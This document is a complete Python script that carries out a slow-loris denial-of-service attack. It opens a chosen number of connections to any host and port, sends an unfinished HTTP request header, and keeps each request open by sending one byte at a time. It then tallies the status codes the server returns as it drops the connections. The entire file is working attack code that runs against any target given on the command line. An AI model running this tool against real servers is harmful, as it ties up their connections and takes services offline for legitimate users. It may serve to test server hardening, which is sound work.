"""A slow-loris: connections that each send a byte of a head now and then, and never end it.

Run as `loris.py HOST PORT CONNECTIONS SECONDS`: SECONDS between two bytes of one connection. It
prints a line when all are open and have begun, then, when the server has ended every one of them,
how often each status came, as JSON; what was cut without an answer counts as "none".
"""

import contextlib
import json
import selectors
import socket
import sys
import time
from collections import Counter

HEAD = b"GET / HTTP/1.1\r\nHost: h\r\nX-Slow: "


def attack(host: str, port: int, count: int, every: float) -> dict[str, int]:
    """Opens, drips and listens until nothing is left."""
    selector = selectors.DefaultSelector()
    said: dict[socket.socket, bytes] = {}
    for _ in range(count):
        sock = socket.create_connection((host, port), 30)
        sock.sendall(HEAD)
        sock.setblocking(False)
        selector.register(sock, selectors.EVENT_READ)
        said[sock] = b""
    print("open", flush=True)
    statuses: Counter[str] = Counter()
    ring = list(said)
    at, begun, sent = 0, time.monotonic(), 0
    while said:
        for key, _ in selector.select(every / count):
            sock = key.fileobj
            assert isinstance(sock, socket.socket)
            try:
                piece = sock.recv(65536)
            except ConnectionResetError:
                piece = b""
            said[sock] += piece
            if not piece:
                words = said.pop(sock).split(b" ", 2)
                statuses[words[1].decode() if len(words) == 3 else "none"] += 1
                selector.unregister(sock)
                sock.close()
        due = (time.monotonic() - begun) / every * count
        while sent < due:  # the ring turns once in `every` seconds
            sent, at = sent + 1, (at + 1) % count
            if ring[at] in said:
                with contextlib.suppress(OSError):
                    ring[at].send(b"x")
    return statuses


if __name__ == "__main__":
    print(json.dumps(attack(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]))))
